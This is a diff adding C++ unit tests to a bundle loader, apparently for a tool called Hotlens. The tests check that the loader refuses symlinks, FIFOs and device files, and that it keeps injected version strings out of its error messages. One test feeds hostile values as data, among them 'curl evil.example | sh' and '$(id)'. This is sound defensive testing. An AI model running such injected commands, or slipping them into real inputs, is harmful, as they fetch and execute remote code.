@@ -1,3 +1,5 @@
+#include <sys/stat.h>
+
 #include "annotator/profile/build/load.h"
 #include "tests/unit/catch.h"
 #include "tests/unit/profile/fixture.h"
@@ -25,6 +27,40 @@ TEST_CASE("a bundle of a newer schema says so and what to install") {
   CHECK(error.message.find("newer Hotlens") != std::string::npos);
   CHECK(error.message.find("0.9.0") != std::string::npos);
   CHECK(error.where.ends_with("manifest.json"));
+}
+
+TEST_CASE("a version out of a bundle is no part of a sentence unless it is one") {
+  const TemporaryFolder folder;
+  Json manifest = manifest_json();
+  manifest["schema"] = "hotlens.bundle/2";
+  for (const char* version :
+       {"1'; curl evil.example | sh #", "0.9.0\n$(id)", "", "-r requirements.txt", "9999999999999999999999999999999"}) {
+    CAPTURE(version);
+    manifest["hotlens"] = version;
+    const Error error = refused(write_bundle(folder.path() / "b", manifest));
+    CHECK(error.message.ends_with("install a newer Hotlens"));
+  }
+}
+
+TEST_CASE("nothing outside a bundle is read because it names it") {
+  const TemporaryFolder folder;
+  const std::filesystem::path bundle = write_bundle(folder.path() / "b"), outside = folder.path() / "outside.json.gz";
+  const std::filesystem::path trace = bundle / "trace-0.json.gz";
+  SECTION("a link out of it") {
+    std::filesystem::rename(trace, outside);
+    std::filesystem::create_symlink(outside, trace);
+    CHECK(refused(bundle).where == trace.string());
+  }
+  SECTION("a pipe that nobody writes") {
+    std::filesystem::remove(trace);
+    REQUIRE(::mkfifo(trace.c_str(), 0600) == 0);
+    CHECK(refused(bundle).where == trace.string());
+  }
+  SECTION("tables that are devices") {
+    std::filesystem::remove(bundle / "model.json");
+    std::filesystem::create_symlink("/dev/zero", bundle / "model.json");
+    CHECK(refused(bundle).where.ends_with("model.json"));
+  }
 }
 
 TEST_CASE("half-written bundles are named as such") {
